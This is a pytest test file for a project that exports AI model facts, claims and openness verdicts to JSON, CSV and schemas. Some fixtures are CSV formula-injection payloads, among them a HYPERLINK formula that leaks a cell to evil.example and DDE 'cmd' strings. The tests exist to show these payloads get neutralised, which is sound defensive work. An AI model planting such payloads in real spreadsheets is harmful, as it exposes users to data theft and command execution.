"""Exports: exact records, and CSV cells that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest
from conftest import REPO
from inmemory import (
    NOWHERE,
    OPEN_WEIGHTS,
    REGISTRY,
    RELEASED,
    base,
    cite,
    claim,
    model,
    primary_document,
    registry,
    source,
    two_sources,
)
from jsonschema import Draft202012Validator, ValidationError

from modelfacts import exportschema, openness, schemas
from modelfacts.check import check_root
from modelfacts.exports import (
    CLAIM_CSV_FIELDS,
    CLAIM_FIELDS,
    DATA_FILES,
    OPENNESS_FIELDS,
    claim_records,
    claims_csv,
    csv_cell,
    json_lines,
    licence_records,
    openness_csv,
    openness_records,
    render_exports,
)
from modelfacts.model import Licence, LicenceTable


def test_claim_record_is_flat_with_rating_and_url():
    records = claim_records(base(), "https://facts.example/")
    assert [r["id"] for r in records] == ["released", "open-weights"]
    assert records[1] == {
        "model": "widget-1",
        "model_name": "Widget-1",
        "developer": "Acme Labs",
        "id": "open-weights",
        "statement": "Widget-1's weights are openly available.",
        "topic": "weights",
        "date": None,
        "confidence": "very low",
        "status": "disputed",
        "status_note": None,
        "rationale": "One outlet says open, another says closed.",
        "notes": None,
        "evidence": "limited",
        "agreement": "low",
        "ceiling": "very low",
        "url": "https://facts.example/models/widget-1/#open-weights",
        "developers": ["acme-labs"],
        "date_basis": "source",
        "unchecked_context": None,
        "citations": [
            {
                "source": "acme-news",
                "stance": "supports",
                "quote": "The weights of Widget-1 are available under the Apache 2.0 licence",
                "as_of": "2025-03-04",
            },
            {
                "source": "rival-news",
                "stance": "contradicts",
                "quote": "Widget-1 weights remain closed and API-only",
                "as_of": "2025-03-04",
            },
        ],
        "reviewed": None,
    }
    assert claim_records(base())[0]["url"] == "models/widget-1/#released"


def test_claims_json_is_one_claim_per_line_with_exact_text():
    records = claim_records(base())
    text = json_lines(records)
    lines = text.splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == 2 + len(records)
    assert [json.loads(line.rstrip(",")) for line in lines[1:-1]] == records
    assert json.loads(text) == records


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a = b - c", "a = b - c"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_quote_in_front(value, cell):
    assert csv_cell(value) == cell


HOSTILE_STATEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_QUOTE = "+cmd|' /C calc'!A0"
HOSTILE_RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CONTEXT = "=1+1 <b>said on stage</b>"


def hostile_base():
    claim = dataclasses.replace(
        OPEN_WEIGHTS,
        statement=HOSTILE_STATEMENT,
        rationale=HOSTILE_RATIONALE,
        notes="-1",
        unchecked_context=HOSTILE_CONTEXT,
        citations=(cite("rival-news", "contradicts", HOSTILE_QUOTE), *OPEN_WEIGHTS.citations),
    )
    evil = registry(("evil", "\tAcme"))
    return base(model(claims=(RELEASED, claim), name="=Widget", developers=("evil",)), publishers=evil)


def test_hostile_text_is_neutralised_in_csv_and_exact_in_json():
    records = claim_records(hostile_base())
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert list(rows[0]) == [*CLAIM_FIELDS, "citations", "openness", "reviewed"] == list(CLAIM_CSV_FIELDS)
    row = rows[1]
    assert row["statement"] == "'" + HOSTILE_STATEMENT
    assert row["rationale"] == "'" + HOSTILE_RATIONALE
    assert row["notes"] == "'-1"
    assert row["unchecked_context"] == "'" + HOSTILE_CONTEXT and row["date_basis"] == "source"
    assert (row["model_name"], row["developer"]) == ("'=Widget", "'\tAcme")
    assert row["status_note"] == "" and row["date"] == ""
    assert row["citations"].startswith("[")  # JSON: no cell of it starts a formula, the quote stays exact
    assert json.loads(row["citations"])[0]["quote"] == HOSTILE_QUOTE
    data = json.loads(json_lines(records))
    assert data[1]["statement"] == HOSTILE_STATEMENT and data[1]["rationale"] == HOSTILE_RATIONALE
    assert data[1]["citations"][0]["quote"] == HOSTILE_QUOTE and data[1]["model_name"] == "=Widget"
    assert data[1]["unchecked_context"] == HOSTILE_CONTEXT and data[0]["unchecked_context"] is None


def test_a_date_the_curators_supplied_is_exported_as_such():
    supplied = dataclasses.replace(RELEASED, date_basis="curator")
    records = claim_records(base(model(claims=(supplied, OPEN_WEIGHTS))))
    assert [(r["date"], r["date_basis"]) for r in records] == [("2025-03-03", "curator"), (None, "source")]
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert [(r["date"], r["date_basis"]) for r in rows] == [("2025-03-03", "curator"), ("", "source")]


def test_plain_text_is_written_as_it_is():
    records = claim_records(base())
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert [{k: v or None for k, v in row.items() if k not in ("citations", "openness")} for row in rows] == [
        {k: ", ".join(v) if isinstance(v, list) else v for k, v in rec.items() if k != "citations"} for rec in records
    ]
    assert [row["openness"] for row in rows] == ["", ""]


@pytest.mark.parametrize(
    "developers, names, ids",
    [
        (("acme-labs",), "Acme Labs", "acme-labs"),
        (("acme-labs", "rival-times"), "Acme Labs, Rival Times", "acme-labs, rival-times"),
        ((), "", ""),
    ],
)
def test_developer_is_the_names_joined_and_developers_the_ids(developers, names, ids):
    """`developer` keeps its meaning (the display name, now names joined); `developers` adds the ids."""
    records = claim_records(base(model(developers=developers)))
    assert (records[0]["developer"], records[0]["developers"]) == (names, list(developers))
    row = next(csv.DictReader(io.StringIO(claims_csv(records))))
    assert (row["developer"], row["developers"]) == (names, ids)


def test_sources_json_names_the_publisher_and_gives_its_id():
    sources = json.loads(render_exports(base())["data/sources.json"])
    assert [(s["publisher"], s["publisher_id"], s["syndicated_from"]) for s in sources] == [
        ("Publisher of acme-news", "publisher-of-acme-news", None),
        ("Rival Times", "rival-times", None),
    ]
    assert REGISTRY.by_id["rival-times"].name == "Rival Times"


def test_a_citation_is_as_of_its_sources_evidence_date():
    """An article's evidence is as of its publication, a copied document's as of its commit date; an undated
    or unknown source gives null."""
    undated = source("rival-news", published=None, date_note="Undated.")
    card = primary_document("acme-news", commit_date="2024-11-30T23:30:00-08:00")
    records = claim_records(base(sources=[card, undated]))
    assert [[c["as_of"] for c in r["citations"]] for r in records] == [["2024-11-30"], ["2024-11-30", None]]
    lost = base(model(claims=(dataclasses.replace(RELEASED, citations=(cite("gone", "supports", "x y"),)),)))
    assert claim_records(lost)[0]["citations"][0]["as_of"] is None
    row = next(csv.DictReader(io.StringIO(claims_csv(records))))
    assert json.loads(row["citations"])[0]["as_of"] == "2024-11-30"


def test_sources_json_carries_document_type_provenance_and_evidence_date():
    card = primary_document("acme-news", about=("Widget-1",), unused=None)
    sources = json.loads(render_exports(base(sources=[card, two_sources()[1]]))["data/sources.json"])
    assert {k: sources[0][k] for k in ("kind", "document", "published", "as_of", "about", "unused")} == {
        "kind": "primary",
        "document": "model-card",
        "published": "2025-03-04",
        "as_of": "2025-03-04",
        "about": ["Widget-1"],
        "unused": None,
    }
    assert sources[0]["provenance"] == {
        "repository": "acme/widget",
        "path": "docs/MODEL_CARD.md",
        "branch": "main",
        "commit": "a" * 40,
        "commit_date": "2025-03-04T10:00:00+01:00",
        "last_change_commit": "b" * 40,
        "note": None,
    }
    assert sources[0]["url"] == f"https://github.com/acme/widget/blob/{'a' * 40}/docs/MODEL_CARD.md"
    assert (sources[1]["document"], sources[1]["provenance"], sources[1]["as_of"]) == ("article", None, "2025-03-04")


def test_no_csv_cell_starts_a_formula():
    text = claims_csv(claim_records(hostile_base()))
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_render_exports_writes_every_listed_data_file():
    files = render_exports(base(), "https://facts.example/")
    assert sorted(files) == sorted(path for path, _ in DATA_FILES)
    assert files["data/schemas/model.schema.json"] == schemas.render("model.schema.json").encode("utf-8")
    sources = json.loads(files["data/sources.json"])
    assert [s["id"] for s in sources] == ["acme-news", "rival-news"]
    assert sources[0]["authors"] == ["A. Writer"] and "text" not in sources[0]


# ---------------------------------------------------------------------------------------------
# The verdicts as data: openness.json (and its schema), openness.csv, licences.json

URL = "https://facts.example/"
WIDGET_LICENCE = Licence(
    "LicenseRef-Widget",
    "Widget Licence",
    "restricted",
    "It limits users.",
    ("widget-1#terms",),
    NOWHERE,
    None,
    "Not stored.",
    "https://acme.example/licence",
)
APACHE = Licence("Apache-2.0", "Apache License 2.0", "open", "OSI-approved.", (), NOWHERE, "acme-news")
TABLE = LicenceTable((WIDGET_LICENCE, APACHE), NOWHERE)
CARD = claim(
    "card",
    "Acme publishes Widget-1's weights under its own licence.",
    cite("acme-news", "supports", "The weights of Widget-1 are available under the Apache 2.0 licence"),
    topic="weights",
    date="2025-03-03",
    confidence="high",
    openness=(("weights", "open"), ("licence", "LicenseRef-Widget"), ("documentation", "open")),
)
EARLIER = claim(
    "research-only",
    "Widget-1's weights were first for research only.",
    cite("rival-news", "supports", "Widget-1 weights remain closed and API-only"),
    topic="weights",
    date="2024-01",
    confidence="high",
    status="superseded",
    status_note="Opened later.",
    openness=(("weights", "partial"),),
)
RIVAL = claim(
    "rival-licence",
    "A rival outlet says Widget-1 is under Apache 2.0.",
    cite("rival-news", "supports", "Widget-1 weights remain closed and API-only"),
    topic="licence",
    confidence="medium",
    openness=(("licence", "Apache-2.0"),),
)


def verdict_base(**over):
    found = base(model(claims=(RELEASED, OPEN_WEIGHTS, EARLIER, CARD, RIVAL), **over))
    found.licences = TABLE
    return found


def test_openness_record_per_model_with_every_dimension_and_framework():
    [record] = openness_records(verdict_base(), URL)
    claim_at = f"{URL}models/widget-1/#".__add__
    assert {k: record[k] for k in ("id", "name", "url", "developers", "family")} == {
        "id": "widget-1",
        "name": "Widget-1",
        "url": f"{URL}models/widget-1/",
        "developers": ["acme-labs"],
        "family": "Widget",
    }
    assert list(record["dimensions"]) == [d.id for d in openness.DIMENSIONS]
    assert record["dimensions"]["weights"] == {
        "verdict": "open",
        "confidence": "high",
        "as_of": "2025-03-04",
        "claims": [claim_at("card")],
        "against": [],
        "outweighed": [],
        "history": [
            {"since": "2024-01", "asserts": "partial", "value": "partial", "claim": claim_at("research-only")},
            {"since": "2025-03-03", "asserts": "open", "value": "open", "claim": claim_at("card")},
        ],
    }
    assert record["dimensions"]["licence"] == {
        "verdict": "disputed",
        "confidence": "high",
        "as_of": "2025-03-04",
        "claims": [claim_at("card"), claim_at("rival-licence")],
        "spdx": "LicenseRef-Widget",
        "class": "restricted",
        "against": [claim_at("rival-licence")],
        "outweighed": [],
        "history": [],
    }
    assert record["frameworks"] == {
        "osaid": {
            "status": "unknown",
            "reached": None,
            "next": "Open Source AI",
            "gaps": [
                "disputed: the claims about licence disagree",
                "unknown: no claim about code",
                "unknown: no claim about training data",
            ],
        },
        "mof": {
            "status": "unknown",
            "reached": None,
            "next": "Class III: Open Model",
            "gaps": ["disputed: the claims about licence disagree"],
        },
    }


def test_a_dimension_no_claim_asserts_is_unknown_with_no_claims():
    [record] = openness_records(base())
    for dimension in openness.DIMENSIONS:
        expected = {
            "verdict": "unknown",
            "confidence": None,
            "as_of": None,
            "claims": [],
            "against": [],
            "outweighed": [],
            "history": [],
        }
        if dimension.id == openness.LICENCE:
            expected.update(spdx=None, **{"class": None})
        assert record["dimensions"][dimension.id] == expected
    assert record["url"] == "models/widget-1/"


def test_openness_csv_is_one_row_per_model_and_dimension():
    rows = list(csv.DictReader(io.StringIO(openness_csv(openness_records(verdict_base(), URL)))))
    assert list(rows[0]) == list(OPENNESS_FIELDS)
    assert [r["dimension"] for r in rows] == [d.id for d in openness.DIMENSIONS]
    assert rows[1] == {
        "model": "widget-1",
        "model_name": "Widget-1",
        "dimension": "licence",
        "verdict": "disputed",
        "confidence": "high",
        "as_of": "2025-03-04",
        "spdx": "LicenseRef-Widget",
        "class": "restricted",
        "claims": f"{URL}models/widget-1/#card, {URL}models/widget-1/#rival-licence",
        "against": f"{URL}models/widget-1/#rival-licence",
    }
    assert (rows[0]["spdx"], rows[0]["class"], rows[2]["claims"], rows[2]["confidence"]) == ("", "", "", "")


def test_hostile_text_is_neutralised_in_openness_csv():
    hostile = dataclasses.replace(
        RIVAL, confidence="high", openness=(("licence", '=HYPERLINK("http://evil.example")'),)
    )
    found = base(model(claims=(hostile,), name="@Widget"))
    found.licences = TABLE
    records = openness_records(found)
    assert records[0]["dimensions"]["licence"]["spdx"] == '=HYPERLINK("http://evil.example")'  # exact in JSON
    text = openness_csv(records)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[1]["spdx"] == '\'=HYPERLINK("http://evil.example")' and rows[1]["model_name"] == "'@Widget"
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_claims_exports_carry_a_claims_openness_and_leave_the_others_unchanged():
    plain = claim_records(base(), URL)
    records = claim_records(verdict_base(), URL)
    assert records[:2] == plain and "openness" not in records[0]
    assert records[3]["openness"] == {"weights": "open", "licence": "LicenseRef-Widget", "documentation": "open"}
    lines = [line.rstrip(",") for line in json_lines(records).splitlines()[1:3]]
    assert lines == [line.rstrip(",") for line in json_lines(plain).splitlines()[1:3]]  # byte for byte
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert [r["openness"] for r in rows] == [
        "",
        "",
        '{"weights": "partial"}',
        json.dumps(records[3]["openness"]),
        '{"licence": "Apache-2.0"}',
    ]


def test_licences_json_lists_each_licence_with_its_terms_and_models():
    other = model("gadget", claims=(dataclasses.replace(RIVAL, confidence="high"),), name="Gadget")
    found = base(model(claims=(CARD,)), other)
    found.licences = TABLE
    assert licence_records(found, URL) == [
        {
            "id": "LicenseRef-Widget",
            "name": "Widget Licence",
            "class": "restricted",
            "reason": "It limits users.",
            "text": None,
            "not_stored": "Not stored.",
            "url": "https://acme.example/licence",
            "terms": [f"{URL}models/widget-1/#terms"],
            "models": ["widget-1"],
        },
        {
            "id": "Apache-2.0",
            "name": "Apache License 2.0",
            "class": "open",
            "reason": "OSI-approved.",
            "text": "acme-news",
            "not_stored": None,
            "url": None,
            "terms": [],
            "models": ["gadget"],
        },
    ]
    found.licences = None  # the table failed its check: nothing can be said of it
    assert licence_records(found) == []


def test_the_schema_takes_its_vocabulary_from_the_code():
    schema = exportschema.openness_schema()
    Draft202012Validator.check_schema(schema)
    defs = schema["$defs"]
    assert defs["verdict"]["properties"]["verdict"]["enum"] == list(openness.VERDICTS)
    assert defs["model"]["properties"]["dimensions"]["required"] == [d.id for d in openness.DIMENSIONS]
    assert defs["licence"]["properties"]["class"]["enum"] == [*openness.LICENCE_CLASSES, None]
    assert json.loads(render_exports(base())["data/schemas/openness.schema.json"]) == schema


def validate(instance) -> None:
    Draft202012Validator(exportschema.openness_schema()).validate(instance)


def test_openness_json_validates_against_its_schema_and_a_wrong_one_does_not():
    data = json.loads(render_exports(verdict_base(), URL)["data/openness.json"])
    validate(data)
    validate(json.loads(render_exports(base())["data/openness.json"]))
    for break_it in (
        lambda d: d[0]["dimensions"]["weights"].update(verdict="mostly"),
        lambda d: d[0]["dimensions"].pop("access"),
        lambda d: d[0]["dimensions"]["weights"].update(spdx="MIT"),
        lambda d: d[0]["dimensions"]["licence"].update({"class": "libre"}),
        lambda d: d[0]["dimensions"]["code"]["claims"].append("not a claim url"),
        lambda d: d[0]["frameworks"]["mof"].update(reached="Class IV"),
    ):
        broken = json.loads(json.dumps(data))
        break_it(broken)
        with pytest.raises(ValidationError):
            validate(broken)


def test_the_real_export_validates_against_its_schema():
    result = check_root(REPO)
    files = render_exports(result.base, "https://modelfacts.example/")
    data = json.loads(files["data/openness.json"])
    assert [r["id"] for r in data] == [m.id for m in result.base.models]
    validate(data)
    rows = list(csv.DictReader(io.StringIO(files["data/openness.csv"].decode("utf-8"))))
    assert len(rows) == len(data) * len(openness.DIMENSIONS)
    assert isinstance(json.loads(files["data/licences.json"]), list)


def test_a_model_that_reaches_a_lower_class_says_what_keeps_it_from_the_next():
    apache = dataclasses.replace(RIVAL, confidence="high", openness=(("licence", "Apache-2.0"),))
    found = base(model(claims=(dataclasses.replace(CARD, openness=CARD.openness[::2]), apache)))
    found.licences = TABLE
    frameworks = openness_records(found)[0]["frameworks"]
    assert frameworks["mof"] == {
        "status": "partly",
        "reached": "Class III: Open Model",
        "next": "Class II: Open Tooling",
        "gaps": ["unknown: no claim about code"],
    }
    closed = dataclasses.replace(apache, id="closed", openness=(("code", "closed"),))
    failing = base(model(claims=(*found.models[0].claims, closed)))
    failing.licences = TABLE
    assert openness_records(failing)[0]["frameworks"]["osaid"]["status"] == "fails"
